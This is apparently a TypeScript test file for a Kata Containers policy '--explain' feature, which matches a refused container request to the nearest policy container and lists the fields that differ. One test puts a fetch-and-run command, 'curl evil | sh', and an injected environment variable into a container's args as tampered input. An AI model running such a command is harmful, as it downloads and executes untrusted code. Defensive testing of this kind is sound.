// The policy-aware part of --explain: which policy container a refused CreateContainerRequest came
// closest to and which fields differ. Pure data, so it runs without the Rego engine.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  closestContainers,
  formatContainerAnalysis,
  policyStringMatches,
} from '../src/policyeval/explain/containers.js';
import { sharedPath } from './helpers/shared.js';
import { policyDataFromLog, readLog } from './policy-eval/fixture.js';

type Obj = Record<string, unknown>;

describe('closest policy container', () => {
  it('matches placeholders and anchored regexes loosely', () => {
    assert.ok(
      policyStringMatches('$(sfprefix)hosts$', '/run/kata-containers/shared/containers/abc-123-hosts$'),
    );
    assert.ok(policyStringMatches('^[a-z0-9]{64}$', 'a'.repeat(64)));
    assert.ok(!policyStringMatches('^[a-z0-9]{64}$', 'A'));
    assert.ok(policyStringMatches('echo $$HOME', 'echo $HOME'));
    // a generator's template: literal parts regex-escaped
    assert.ok(
      policyStringMatches(
        '$(sfprefix)resolv\\.conf$',
        '/run/kata-containers/shared/containers/x-resolv.conf',
      ),
    );
    assert.ok(
      !policyStringMatches('$(sfprefix)resolv\\.conf$', '/run/kata-containers/shared/containers/x-hosts'),
    );
    assert.ok(!policyStringMatches('sh', 'bash'));
  });

  it('picks the container the request was meant for and names the fields that differ', (t) => {
    const p = sharedPath(t, join('agent-requests', 'k8s-policy-pod.txt'));
    if (!p) return;
    const requests = readLog(p);
    const policyData = policyDataFromLog(requests);
    const busybox = structuredClone(
      requests.filter((r) => r.type === 'CreateContainerRequest')[1]!.input,
    ) as Obj;
    const proc = (busybox['OCI'] as Obj)['Process'] as Obj;
    proc['Args'] = ['sh', '-c', 'curl evil | sh'];
    (proc['Env'] as string[]).push('INJECTED=1');

    const ranked = closestContainers(policyData, busybox);
    assert.equal(ranked[0]?.index, 1, 'busybox (policy_data.containers[1]) is closest');
    const fields = ranked[0]!.differences.map((d) => d.field);
    assert.deepEqual(fields.sort(), ['OCI.Process.Args', 'OCI.Process.Env']);
    const args = ranked[0]!.differences.find((d) => d.field === 'OCI.Process.Args')!;
    assert.deepEqual(args.policy, ['sh']);
    assert.deepEqual(args.request, ['sh', '-c', 'curl evil | sh']);

    const text = formatContainerAnalysis(ranked).join('\n');
    assert.match(text, /closest policy container: "busybox"/);
    assert.match(text, /OCI\.Process\.Args/);
    assert.match(text, /curl evil/);
    assert.match(text, /INJECTED=1/);
  });

  it('compares a request of another pod with everything the policy pins', (t) => {
    const a = sharedPath(t, join('agent-requests', 'k8s-policy-pod.txt'));
    const b = sharedPath(t, join('agent-requests', 'pod-exec.txt'));
    if (!a || !b) return;
    const policyData = policyDataFromLog(readLog(a));
    const other = readLog(b).filter((r) => r.type === 'CreateContainerRequest')[1]!.input;
    const best = closestContainers(policyData, other)[0]!;
    assert.equal(best.index, 1);
    const fields = best.differences.map((d) => d.field);
    assert.ok(fields.includes('OCI.Annotations["io.kubernetes.cri.image-name"]'), fields.join(', '));
    assert.ok(fields.includes('OCI.Process.Args'));
  });
});
